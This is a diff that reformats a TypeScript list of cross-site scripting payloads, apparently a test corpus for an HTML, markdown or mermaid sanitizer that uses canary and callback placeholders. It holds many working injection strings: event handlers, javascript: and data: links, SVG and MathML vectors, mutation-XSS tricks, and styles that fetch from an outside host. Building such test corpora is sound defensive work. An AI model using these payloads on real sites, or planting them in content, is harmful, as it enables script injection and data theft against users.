@@ -35,7 +35,10 @@ export const XSS: readonly Payload[] = [
   { name: "video source onerror", text: `<video><source onerror=${run}></video>` },
   { name: "audio onerror", text: `<audio src=x onerror=${run}>` },
   { name: "marquee onstart", text: `<marquee onstart=${run}>x</marquee>` },
-  { name: "animation events", text: `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}></b>` },
+  {
+    name: "animation events",
+    text: `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}></b>`,
+  },
   { name: "pointer events", text: `<b onpointerover=${run} onmouseover=${run}>over me</b>` },
   { name: "popover", text: `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${run}>x</p>` },
   { name: "select autofocus", text: `<select autofocus onfocus=${run}><option>x</select>` },
@@ -45,7 +48,10 @@ export const XSS: readonly Payload[] = [
   { name: "javascript link with tab and line break", text: `<a href="java\tscr\nipt:${run}">x</a>` },
   { name: "javascript link with a control sign before", text: `<a href=" \u0001javascript:${run}">x</a>` },
   { name: "data link", text: `<a href="data:text/html,<script>${run}</script>">x</a>` },
-  { name: "data link in base64", text: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190YWtlbj0xPC9zY3JpcHQ+">x</a>` },
+  {
+    name: "data link in base64",
+    text: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190YWtlbj0xPC9zY3JpcHQ+">x</a>`,
+  },
   { name: "vbscript link", text: `<a href="vbscript:msgbox(1)">x</a>` },
   { name: "form action", text: `<form action="javascript:${run}"><button>x</button></form>` },
   { name: "button formaction", text: `<form><button formaction="javascript:${run}">x</button></form>` },
@@ -63,25 +69,46 @@ export const XSS: readonly Payload[] = [
   // Pictures and styles that fetch
   { name: "picture from elsewhere", text: `<img src="https:${call}/pixel.png">` },
   { name: "picture set from elsewhere", text: `<img srcset="https:${call}/pixel.png 1x">` },
-  { name: "style that fetches", text: `<style>@import "https:${call}/x.css"; body{background:url(https:${call}/y)}</style>` },
+  {
+    name: "style that fetches",
+    text: `<style>@import "https:${call}/x.css"; body{background:url(https:${call}/y)}</style>`,
+  },
   { name: "style attribute that fetches", text: `<b style="background:url(https:${call}/z)">x</b>` },
   { name: "style with an old expression", text: `<b style="width:expression(${run})">x</b>` },
   // SVG and MathML
   { name: "svg script", text: `<svg><script>${run}</script></svg>` },
   { name: "svg script with href", text: `<svg><script href="https:${call}/x.js"/></svg>` },
-  { name: "svg animate to javascript", text: `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>` },
+  {
+    name: "svg animate to javascript",
+    text: `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
+  },
   { name: "svg set onbegin", text: `<svg><set onbegin=${run} attributeName=x dur=1s></svg>` },
-  { name: "svg foreign object", text: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>` },
-  { name: "svg use", text: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>` },
+  {
+    name: "svg foreign object",
+    text: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
+  },
+  {
+    name: "svg use",
+    text: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
+  },
   { name: "svg style", text: `<svg><style><img src=x onerror=${run}></style></svg>` },
-  { name: "mathml action", text: `<math><maction actiontype="statusline#http:${call}" href="javascript:${run}">x</maction></math>` },
+  {
+    name: "mathml action",
+    text: `<math><maction actiontype="statusline#http:${call}" href="javascript:${run}">x</maction></math>`,
+  },
   { name: "mathml link", text: `<math href="javascript:${run}"><mi>x</mi></math>` },
   // Text that changes when it is parsed twice
   { name: "mutation through a title", text: `<svg></p><style><a id="</style><img src=x onerror=${run}>">` },
   { name: "mutation through noscript", text: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
   { name: "mutation through textarea", text: `<textarea></textarea><img src=x onerror=${run}></textarea>` },
-  { name: "mutation through math", text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">` },
-  { name: "mutation through a table", text: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">` },
+  {
+    name: "mutation through math",
+    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
+  },
+  {
+    name: "mutation through a table",
+    text: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
+  },
   { name: "mutation through xmp", text: `<xmp><p title="</xmp><img src=x onerror=${run}>">` },
   { name: "comment that ends early", text: `<!--><img src=x onerror=${run}>-->` },
   { name: "comment that ends with a bang", text: `<!-- --!><img src=x onerror=${run}> -->` },
@@ -108,18 +135,44 @@ export const XSS: readonly Payload[] = [
   { name: "markdown picture", text: `![x](https:${call}/pixel.png)` },
   { name: "markdown picture with a script", text: `![x](javascript:${run})` },
   { name: "markdown picture that breaks its text", text: `![x" onerror="${run}](x)` },
-  { name: "markdown picture of svg", text: `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>)` },
+  {
+    name: "markdown picture of svg",
+    text: `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>)`,
+  },
   { name: "markdown reference", text: `[x][r]\n\n[r]: javascript:${run}` },
   { name: "markdown mention that is none", text: `@[x](user:javascript:${run})` },
-  { name: "markdown code language", text: "```\"><img src=x onerror=" + run + ">\nx\n```" },
+  { name: "markdown code language", text: '```"><img src=x onerror=' + run + ">\nx\n```" },
   { name: "markdown table", text: `| <img src=x onerror=${run}> |\n|--|\n| [x](javascript:${run}) |` },
   { name: "markdown heading", text: `# <svg onload=${run}> [x](javascript:${run})` },
   // Diagrams
-  { name: "mermaid click", text: "```mermaid\nflowchart LR\n  a --> b\n  click a \"javascript:" + run + "\"\n  click b call " + CANARY + "()\n```" },
-  { name: "mermaid label", text: "```mermaid\nflowchart LR\n  a[\"<img src=x onerror=" + run + ">\"] --> b\n```" },
-  { name: "mermaid directive", text: "```mermaid\n%%{init: {\"securityLevel\":\"loose\",\"htmlLabels\":true,\"themeCSS\":\"@import 'https:" + call + "/m.css';\"}}%%\nflowchart LR\n  a[\"<iframe srcdoc='<script>parent." + CANARY + "=1</script>'>\"]\n```" },
-  { name: "mermaid front matter", text: "```mermaid\n---\nconfig:\n  securityLevel: loose\n  flowchart:\n    htmlLabels: true\n---\nsequenceDiagram\n  A->>B: <img src=https:" + call + "/s.png onerror=" + run + ">\n```" },
-  { name: "mermaid class definition", text: "```mermaid\nclassDiagram\n  class A[\"<svg onload=" + run + ">\"]\n  link A \"javascript:" + run + "\"\n```" },
+  {
+    name: "mermaid click",
+    text:
+      '```mermaid\nflowchart LR\n  a --> b\n  click a "javascript:' + run + '"\n  click b call ' + CANARY + "()\n```",
+  },
+  { name: "mermaid label", text: '```mermaid\nflowchart LR\n  a["<img src=x onerror=' + run + '>"] --> b\n```' },
+  {
+    name: "mermaid directive",
+    text:
+      '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"@import \'https:' +
+      call +
+      "/m.css';\"}}%%\nflowchart LR\n  a[\"<iframe srcdoc='<script>parent." +
+      CANARY +
+      "=1</script>'>\"]\n```",
+  },
+  {
+    name: "mermaid front matter",
+    text:
+      "```mermaid\n---\nconfig:\n  securityLevel: loose\n  flowchart:\n    htmlLabels: true\n---\nsequenceDiagram\n  A->>B: <img src=https:" +
+      call +
+      "/s.png onerror=" +
+      run +
+      ">\n```",
+  },
+  {
+    name: "mermaid class definition",
+    text: '```mermaid\nclassDiagram\n  class A["<svg onload=' + run + '>"]\n  link A "javascript:' + run + '"\n```',
+  },
   // Templates and other languages
   { name: "double braces", text: `{{constructor.constructor('${run}')()}}` },
   { name: "template literal", text: "${" + run + "}`${" + run + "}`" },
